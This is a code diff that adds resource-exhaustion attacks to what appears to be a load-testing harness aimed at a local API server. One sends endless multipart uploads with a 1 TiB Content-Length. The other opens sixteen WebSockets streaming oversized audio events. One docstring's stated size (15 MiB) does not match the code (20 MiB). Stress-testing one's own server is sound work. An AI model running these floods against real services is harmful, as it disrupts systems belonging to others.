@@ -287,6 +287,48 @@ def descriptions(port, seconds, key):
         thread.join()
 
 
+def uploads(port, seconds, key):
+    """One key: eight uploads that send as fast as they can and never end."""
+    head = ("POST /v1/media/upload HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\n"
+            f"Content-Length: {1 << 40}\r\nAuthorization: Bearer {key}\r\n\r\n"
+            '--b\r\nContent-Disposition: form-data; name="x"; filename="y"\r\n\r\n').encode()
+    send_fast(port, seconds, 8, head)
+
+
+def messages(port, seconds, key):
+    """One key: sixteen WebSockets that send events of 15 MiB as fast as they can."""
+    head = ("GET /v1/realtime HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
+            f"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nAuthorization: Bearer {key}\r\n\r\n").encode()
+    event = b'{"type":"input_audio_buffer.append","audio":"' + b"A" * (20 * MIB) + b'"}'
+    # Masked with zeros, so that masking does not take the attacker's time.
+    frame = b"\x81\xff" + len(event).to_bytes(8, "big") + bytes(4) + event
+    send_fast(port, seconds, 16, head, frame)
+
+
+def send_fast(port, seconds, count, head, piece=b"x" * MIB):
+    """Sends a head and then the piece again and again; begins anew when the connection ends."""
+    until = time.monotonic() + seconds
+    sent = [0] * count
+
+    def send(number):
+        while time.monotonic() < until:
+            try:
+                plain = connection(port)
+                plain.sendall(head)
+                while time.monotonic() < until:
+                    plain.sendall(piece)
+                    sent[number] += len(piece)
+            except OSError:
+                time.sleep(0.05)
+
+    threads = [threading.Thread(target=send, args=(number,)) for number in range(count)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    print(json.dumps({"MiB": sum(sent) // MIB}))
+
+
 def guesses(port, seconds, key):
     """Made-up keys, as fast as one connection can send."""
     until = time.monotonic() + seconds
@@ -310,7 +352,8 @@ def guesses(port, seconds, key):
 
 
 ATTACKS = {"none": lambda port, seconds, key: time.sleep(seconds), "webhooks": webhooks, "methods": methods, "half-open": half_open,
-           "bodies": bodies, "small-bodies": small_bodies, "forms": forms, "descriptions": descriptions, "guesses": guesses}
+           "bodies": bodies, "small-bodies": small_bodies, "forms": forms, "descriptions": descriptions, "guesses": guesses,
+           "uploads": uploads, "messages": messages}
 
 
 def besiege(name, seconds):
